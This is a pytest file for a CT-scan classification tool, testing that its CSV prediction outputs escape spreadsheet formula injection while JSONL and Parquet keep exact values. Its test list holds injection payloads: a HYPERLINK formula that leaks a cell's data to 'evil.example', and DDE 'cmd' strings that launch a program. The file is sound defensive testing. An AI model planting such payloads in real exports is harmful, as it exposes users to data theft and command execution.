"""CSV outputs never hand a spreadsheet a formula (OWASP's CSV injection rule); JSONL and
Parquet keep the exact values; ``--resume`` reads the CSV cells back as they were."""

from __future__ import annotations

import csv
import json

import pytest

from ctmask.core.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell

HOSTILE = ["=1+2.png", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1-1", "-2+3", "\tx=1", "\rx=1", "'=already quoted", "'plain quote",
           " =1+2.png", "  @SUM(1+1)", "\u00a0=cmd|' /C calc'!A0", " \n+1", "\x0b-2+3"]  # whitespace first
CLASSES = ("normal", "pneumonia", "covid19")


def record(i: int, name: str) -> dict:
    return {"file": name, "class": "covid19", "class_index": 2,
            "probs": {"normal": 0.1, "pneumonia": 0.2, "covid19": 0.7}, "n_rois": 3,
            "top_rois": [[0.9, 0.1, -0.2, 0.3, -0.4]], "key": name + "#0", "label": name, "study": name,
            "series": "-" + name, "position": -12.5 - i, "frame": 0, "kind": "image-8bit", "size": [64, 64],
            "top_boxes": [[1.0, 2.0, 30.0, 40.0]]}


def is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def assert_no_formula_cells(path) -> list[list[str]]:
    """Every cell is a number ctmask wrote (-12.5 is a number to a spreadsheet too) or text that
    does not start like a formula, also after leading whitespace (which spreadsheets skip)."""
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert is_number(cell) or not cell.lstrip().startswith(FORMULA_STARTS), (cell, row)
    return rows


def test_safe_cell_quotes_formula_starts_and_restores_exactly():
    for value in HOSTILE:
        cell = safe_cell(value)
        assert not cell.lstrip().startswith(FORMULA_STARTS) and restore_cell(cell) == value, value
    for value in ("normal", "test_001.png", "1.2.840.113619", "", "[1, 2]", " plain name"):
        assert safe_cell(value) == value == restore_cell(value)
    for number in (-12.5, -3, 0.7, None):  # ctmask's own numbers stay numbers
        assert safe_cell(number) is number


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_slice_outputs_neutralise_csv_and_keep_exact_values_elsewhere(tmp_path, suffix):
    from ctmask.runtime.batch_run import _csv_record
    from ctmask.runtime.predict import PredictionWriter

    if suffix == ".parquet":
        pytest.importorskip("pyarrow")
    out = tmp_path / f"p{suffix}"
    recs = [record(i, name) for i, name in enumerate(HOSTILE)]
    with PredictionWriter(out, CLASSES, scan_columns=True) as w:
        for rec in recs:
            w.write_record(rec)
    if suffix == ".csv":
        rows = assert_no_formula_cells(out)
        assert rows[1][0] == "'=1+2.png" and rows[2][0].startswith("'=HYPERLINK(")
        header = rows[0]
        assert float(rows[1][header.index("position")]) == -12.5  # a number is not a formula
        with open(out, newline="", encoding="utf-8") as fh:
            back = [_csv_record(row) for row in csv.DictReader(fh)]  # what --resume reads
        for got, want in zip(back, recs, strict=True):
            for k in ("file", "key", "label", "study", "series", "class", "position", "size", "top_boxes"):
                assert got[k] == want[k], (k, got[k], want[k])
    elif suffix == ".jsonl":
        back = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert [r["file"] for r in back] == HOSTILE and [r["series"] for r in back] == ["-" + n for n in HOSTILE]
    else:
        from ctmask.runtime.parquet import read_slices

        back = read_slices(out)
        assert [r["file"] for r in back] == HOSTILE and [r["study"] for r in back] == HOSTILE


def test_study_csv_neutralises_study_and_class_cells(tmp_path):
    from ctmask.runtime.study import DrivingSlice, StudyPrediction, StudyWriter

    out = tmp_path / "st.csv"
    with StudyWriter(out, CLASSES) as w:
        for name in HOSTILE:
            w.write(StudyPrediction(study=name, series=[name], n_slices=1, class_name="covid19", class_index=2,
                                    probs={"normal": 0.1, "pneumonia": 0.2, "covid19": 0.7},
                                    scores={"normal": 0.1, "pneumonia": 0.2, "covid19": 0.7}, rule="topk-mean/1 k=1",
                                    driving=[DrivingSlice(name, name, 0.7, None)]))
    rows = assert_no_formula_cells(out)
    assert [restore_cell(r[0]) for r in rows[1:]] == HOSTILE
    assert json.loads(rows[1][rows[0].index("series")]) == ["=1+2.png"]  # a JSON list cell starts with '['


@pytest.mark.slow
def test_infer_writes_file_names_that_look_like_formulas_as_text(small_onnx, synth_dir, tmp_path, monkeypatch):
    from PIL import Image
    from tests_helpers import invoke

    src = sorted((synth_dir / "images").glob("test_*.png"))[0]
    names = ["=1+2.png", "@SUM(1+1).png", "+cmd.png", "-2+3.png"]
    for name in names:
        Image.open(src).save(tmp_path / name)
    monkeypatch.chdir(tmp_path)  # relative inputs: the file, key and study cells start with the name
    res = invoke("infer", "--out", "s.csv", "--studies", "st.csv", "-q", "--", small_onnx, *names)  # -2+3.png
    assert res.exit_code == 0, res.output
    slices, studies = assert_no_formula_cells("s.csv"), assert_no_formula_cells("st.csv")
    assert sorted(restore_cell(r[0]) for r in slices[1:]) == sorted(names)
    assert sorted(restore_cell(r[0]) for r in studies[1:]) == sorted(names)
    res = invoke("infer", "--out", "s.jsonl", "-q", "--", small_onnx, *names)
    assert res.exit_code == 0, res.output
    assert sorted(json.loads(line)["file"] for line in open("s.jsonl", encoding="utf-8")) == sorted(names)
